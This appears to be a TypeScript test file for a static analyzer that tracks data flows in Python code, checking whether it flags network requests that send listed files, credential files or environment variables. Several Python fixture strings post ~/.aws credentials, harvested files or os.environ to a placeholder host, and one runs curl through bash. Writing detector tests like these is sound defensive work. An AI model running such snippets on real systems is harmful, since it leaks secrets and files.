import { describe, expect, test } from 'vitest';
import { LABEL, labelNames } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** Names of the labels of what the last request of a source sends. */
function sent(source: string): string[] {
  const { flows } = analyzePython(source, { script: true }).flow;
  const labels = flows.findLast(({ sink }) => sink === 'network')?.labels ?? 0;
  return labelNames(labels & ~LABEL.param);
}

describe('files that a folder lists', () => {
  const LISTED = 'import os, requests\nfrom pathlib import Path\nfor name in os.listdir("/x"):\n    ';

  test.each([
    ['their names', 'requests.post("https://a.weir.test/x", json=name)'],
    ['their names, as paths', 'requests.post("https://a.weir.test/x", json=Path(name).stem)'],
  ])('are names until they are read: %s', (_what, statement) => {
    expect(sent(LISTED + statement)).toEqual(['listing']);
  });

  test.each([
    ['as they are opened', 'requests.post("https://a.weir.test/x", data=open(Path(name)))'],
    ['as they are read', 'requests.post("https://a.weir.test/x", data=Path("/x", name).read_text())'],
    ['below a folder', 'requests.post("https://a.weir.test/x", data=(Path("/x") / name).open())'],
    ['by who is given the path', 'import boto3\n    boto3.client("s3").upload_file(name, "b", "k")'],
    ['by who is given a path', 'import boto3\n    boto3.client("s3").upload_file(str(Path(name)), "b", "k")'],
  ])('are sent: %s', (_how, statement) => {
    expect(sent(LISTED + statement)).toContain('harvest');
  });
});

describe('what only addresses a request and signs it in', () => {
  /** Names of labels of which the last request of a source signs in with something, and sends nothing else of it. */
  function signsIn(statements: string): string[] {
    const { flows } = analyzePython(
      `import base64, glob, http.client, json, os, requests\ndef go(host):\n    ${statements}\n`,
    ).flow;
    return labelNames(flows.findLast(({ sink }) => sink === 'network')?.signsIn ?? 0);
  }
  const KEY = 'open(os.path.expanduser("~/.aws/own")).read()';
  const FOUND = 'info = json.load(open(glob.glob("/run/*.json")[0])); ';

  test.each([
    ['where a caller says', `requests.get(host + "/x", headers={"Authorization": ${KEY}})`, ['credential']],
    [
      'where a variable says',
      `requests.get(f'https://{os.environ["HOST"]}/x', auth=("me", ${KEY}), timeout=3)`,
      ['credential'],
    ],
    [
      'where the file says',
      `${FOUND}requests.post(info["url"] + "login", headers={"Cookie": info["id"]})`,
      ['harvest'],
    ],
    [
      'through a connection',
      `c = http.client.HTTPConnection(host); c.request("POST", "/", "{}", {"Authorization": ${KEY}})`,
      ['credential'],
    ],
  ])('is told: %s', (_where, statements, labels) => {
    expect(signsIn(statements)).toEqual(labels);
  });

  test.each([
    ['a body', `requests.post(host + "/x", data=${KEY})`],
    [
      'a body beside a header',
      `k = ${KEY}; requests.post(host, headers={"Authorization": k}, json={"k": k})`,
    ],
    ['another header', `requests.get(host, headers={"X-Data": ${KEY}})`],
    ['what was put into a session', `s = requests.Session(); s.headers.update({"A": ${KEY}}); s.get(host)`],
    ['an address that is spelled', `requests.get("https://a.weir.test/" + host, headers={"Cookie": ${KEY}})`],
    [
      'an address that is hidden',
      `requests.get(base64.b64decode(host).decode(), headers={"Cookie": ${KEY}})`,
    ],
    ['an address that a server gave', `requests.get(requests.get(host).text, headers={"Cookie": ${KEY}})`],
    ['a file that any folder lists', `${FOUND}requests.get(info["url"], headers={"Cookie": ${KEY}})`],
    ['a file beside it', `requests.get(open("own.txt").read(), headers={"Cookie": ${KEY}})`],
    ['an address of which nothing is known', `requests.get(made(), headers={"Cookie": ${KEY}})`],
  ])('is not: %s', (_what, statements) => {
    expect(signsIn(statements)).not.toContain('credential');
  });
});

describe('the environment of a shell', () => {
  test.each([
    ['by its place', '"$1" -fsSL "$2"', false],
    ['by its name', 'curl -d "$OWN" "$2"', true],
  ])('is told when the line asks for it: %s', (_how, line, isTold) => {
    const started = `import os, subprocess\ndef go():\n    subprocess.run(["bash", "-c", '${line}', "own", "curl", "https://a.weir.test/x"], env=os.environ)\n`;
    const [flow] = analyzePython(started).flow.flows;

    expect(((flow?.labels ?? 0) & LABEL.envAll) !== 0).toBe(isTold);
  });
});

describe('the environment', () => {
  const SEND = 'requests.post("https://a.weir.test/x", json=';

  test.each([
    ['that a function looks something up in', `client.user(env=os.environ))`],
    ['that a function finds something in', 'client.resolve_user(os.environ))'],
    ['that a function gives a program of its own', `client.user(custom_env=os.environ))`],
    ['of a program whose output is sent', 'subprocess.run(["git", "log"], env={**os.environ, "A": "b"}))'],
  ])('is not what is sent: %s', (_which, value) => {
    const sending = `import client, os, requests, subprocess\ndef go():\n    ${SEND}${value}\n`;

    expect(sent(sending)).not.toContain('envAll');
  });

  test.each([
    ['that is written as a text', 'def go():\n    ', 'client.text(os.environ))'],
    ['that is copied for a function', 'def go():\n    ', 'client.resolve_user(dict(os.environ)))'],
    ['that loading hands over', '', 'client.text(env=os.environ))'],
    [
      'that a program prints',
      'def go():\n    ',
      'subprocess.check_output("env", shell=True, env=os.environ))',
    ],
  ])('is sent: %s', (_which, head, value) => {
    expect(sent(`import client, os, requests, subprocess\n${head}${SEND}${value}\n`)).toContain('envAll');
  });
});
